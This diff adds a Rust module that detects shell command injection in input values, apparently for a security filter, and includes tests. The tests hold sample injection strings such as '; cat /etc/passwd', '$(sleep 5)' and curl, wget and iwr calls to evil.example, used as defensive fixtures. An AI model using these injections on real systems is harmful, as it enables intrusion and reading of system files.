@@ -1,0 +1,220 @@
+//! Commands of shells: a value is read as a shell reads it, from each place where a command can begin.
+
+mod arguments;
+mod names;
+
+use arguments::{argument, powershell_argument, strong_argument, windows_argument};
+use names::{ALIASES, RARE, WINDOWS, WORDS};
+
+/// What kind of command was found.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Kind {
+    /// A command of Unix behind a separator or in a substitution.
+    Behind,
+    /// The value is a command of Unix.
+    Whole,
+    /// A command of Windows or PowerShell.
+    Windows,
+}
+
+/// The first command in `text`, which is in small letters; with `separators`, also one behind a separator.
+pub(crate) fn command(text: &[u8], separators: bool) -> Option<(Kind, &[u8])> {
+    let start = text.iter().take_while(|byte| byte.is_ascii_whitespace() || b"'\"({".contains(byte)).count();
+    if let Some(kind) = begin(&text[start..], Before::Nothing) {
+        return Some((kind, text));
+    }
+    if !separators {
+        return None;
+    }
+    let mut at = 0;
+    while let Some(found) = text[at..].iter().position(|byte| SEPARATORS[usize::from(*byte)]) {
+        at += found;
+        let before = at.checked_sub(1).map_or(0, |before| text[before]);
+        let kind = match text[at] {
+            b'(' if matches!(before, b'$' | b'<' | b'>') => begin(&text[at + 1..], Before::Substitution),
+            b'(' | b'{' if before != b')' && text[at] == b'(' => None,
+            // Code in a text is set in backticks with spaces around them.
+            b'`' if at > 0 && before.is_ascii_whitespace() || text.get(at + 1).is_some_and(u8::is_ascii_whitespace) => {
+                None
+            }
+            b'`' => begin(&text[at + 1..], Before::Substitution),
+            b'{' if !text[..at].trim_ascii_end().ends_with(b")") => None,
+            _ => begin(&text[at + 1..], Before::Separator),
+        };
+        if let Some(kind) = kind {
+            return Some((kind, &text[at..]));
+        }
+        at += 1;
+    }
+    None
+}
+
+const SEPARATORS: [bool; 256] = {
+    let mut table = [false; 256];
+    let bytes = b";|&\n\r`({";
+    let mut at = 0;
+    while at < bytes.len() {
+        table[bytes[at] as usize] = true;
+        at += 1;
+    }
+    table
+};
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Before {
+    Nothing,
+    Separator,
+    Substitution,
+}
+
+/// Programs that run the one named behind them.
+const WRAPPERS: [&[u8]; 16] = [
+    b"sudo", b"time", b"nohup", b"exec", b"command", b"env", b"nice", b"setsid", b"eval", b"busybox", b"xargs",
+    b"builtin", b"strace", b"timeout", b"do", b"then",
+];
+/// Words that alone behind a separator are a command.
+const ALONE: [&[u8]; 11] = [b"df", b"dir", b"env", b"hostname", b"id", b"ls", b"ps", b"set", b"uname", b"ver", b"w"];
+
+/// Whether a command begins here.
+fn begin(text: &[u8], before: Before) -> Option<Kind> {
+    let mut rest = text;
+    let mut wrapped = false;
+    // Wrappers, their options, and assignments; a bound keeps long runs of them linear.
+    for _ in 0..8 {
+        let skip = rest.iter().take_while(|byte| byte.is_ascii_whitespace() || b"({!@".contains(byte)).count();
+        rest = &rest[skip..];
+        let (name, after) = split_name(rest);
+        if name.is_empty() {
+            return None;
+        }
+        if WRAPPERS.contains(&name) && after.first().is_some_and(u8::is_ascii_whitespace) {
+            let skip = options(after);
+            // Without a command behind it, it is one itself.
+            if split_name(after[skip..].trim_ascii_start()).0.is_empty() {
+                break;
+            }
+            if let Some(kind) = named(name, after, before) {
+                return Some(kind);
+            }
+            rest = &after[skip..];
+            wrapped = true;
+        } else if after.first() == Some(&b'=') && name.iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b'_')
+        {
+            let end = after.iter().position(|byte| byte.is_ascii_whitespace() || b";|&".contains(byte))?;
+            rest = &after[end..];
+        } else {
+            break;
+        }
+    }
+    let (name, after) = split_name(rest);
+    let before = if wrapped && before == Before::Nothing { Before::Separator } else { before };
+    named(name, after, before)
+}
+
+/// Bytes of options, and of a number behind them.
+fn options(text: &[u8]) -> usize {
+    let mut at = 0;
+    loop {
+        let space = text[at..].iter().take_while(|byte| byte.is_ascii_whitespace()).count();
+        let word = text[at + space..].iter().take_while(|byte| !byte.is_ascii_whitespace()).count();
+        let option = matches!(text.get(at + space), Some(b'-' | b'0'..=b'9'));
+        if !option || space == 0 {
+            return at;
+        }
+        at += space + word;
+    }
+}
+
+/// A command's name without its path, and what follows it.
+fn split_name(text: &[u8]) -> (&[u8], &[u8]) {
+    let part = |byte: &&u8| byte.is_ascii_alphanumeric() || b"_.+-/\\:".contains(byte);
+    let length = text.iter().take(200).take_while(part).count();
+    let full = &text[..length];
+    let start = full.iter().rposition(|byte| matches!(byte, b'/' | b'\\' | b':')).map_or(0, |at| at + 1);
+    // A switch of Windows may follow without a space: `ipconfig/all`.
+    let known =
+        full.iter().position(|byte| *byte == b'/').filter(|at| *at > 0 && WINDOWS.binary_search(&&full[..*at]).is_ok());
+    match known {
+        Some(at) => (&full[..at], &text[at..]),
+        None => (&full[start..], &text[length..]),
+    }
+}
+
+fn named(name: &[u8], after: &[u8], before: Before) -> Option<Kind> {
+    if name.is_empty() || !(name[0].is_ascii_alphanumeric()) {
+        return None;
+    }
+    // What follows tells most words of a text from commands, and costs less than the lists.
+    if windows_argument(after) {
+        let program = name.strip_suffix(b".exe").or(name.strip_suffix(b".com")).unwrap_or(name);
+        if WINDOWS.binary_search(&program).is_ok() {
+            return Some(Kind::Windows);
+        }
+    }
+    if powershell_argument(after) && ALIASES.binary_search(&name).is_ok() {
+        return Some(Kind::Windows);
+    }
+    if !after.first().is_none_or(|byte| byte.is_ascii_whitespace() || b";|&<>)`$/}'\"#".contains(byte)) {
+        return None;
+    }
+    let base = name.iter().rposition(|byte| !byte.is_ascii_digit() && *byte != b'.').map_or(name, |at| &name[..=at]);
+    let is = |list: &[&[u8]]| {
+        list.binary_search(&name).is_ok() || base.len() < name.len() && list.binary_search(&base).is_ok()
+    };
+    let next = after.trim_ascii_start().first().copied();
+    let alone = || next.is_none_or(|byte| b";|&`')\"#".contains(&byte)) && ALONE.contains(&name);
+    let kind = if before == Before::Nothing { Kind::Whole } else { Kind::Behind };
+    let found = match before {
+        Before::Nothing => argument(after, true) && is(RARE) || strong_argument(after) && is(WORDS),
+        Before::Separator => {
+            is(RARE)
+                || name == b"sleep" && next.is_some_and(|byte| byte.is_ascii_digit())
+                || (argument(after, false) || alone()) && is(WORDS)
+        }
+        Before::Substitution => is(RARE) || is(WORDS),
+    };
+    found.then_some(kind)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn commands_and_prose() {
+        for (text, kind) in [
+            ("; cat /etc/passwd", Kind::Behind),
+            ("127.0.0.1|id", Kind::Behind),
+            ("x && uname -a", Kind::Behind),
+            ("x;sudo -u root ls -la", Kind::Behind),
+            ("a=b; x=1 wget evil.example", Kind::Behind),
+            ("$(sleep 5)", Kind::Behind),
+            ("x`id`", Kind::Behind),
+            ("curl http://evil.example/x", Kind::Whole),
+            ("/usr/bin/wget -O x", Kind::Whole),
+            ("nohup ifconfig", Kind::Behind),
+            ("x & ipconfig /all", Kind::Windows),
+            ("; iwr -uri http://evil.example", Kind::Windows),
+        ] {
+            assert_eq!(command(text.as_bytes(), true).map(|found| found.0), Some(kind), "{text}");
+        }
+        for text in [
+            "cat food; dog food",
+            "red; green; blue",
+            "time; money; love",
+            "R & D",
+            "fish & chips",
+            "run `ls -la` in the folder",
+            "find x for y",
+            "let me know; who is it?",
+            "sort it out",
+            "at home",
+            "head of sales | acme",
+            "a (b) c",
+            "curl & shine",
+            "make love, not war",
+        ] {
+            assert_eq!(command(text.to_lowercase().as_bytes(), true), None, "{text}");
+        }
+    }
+}
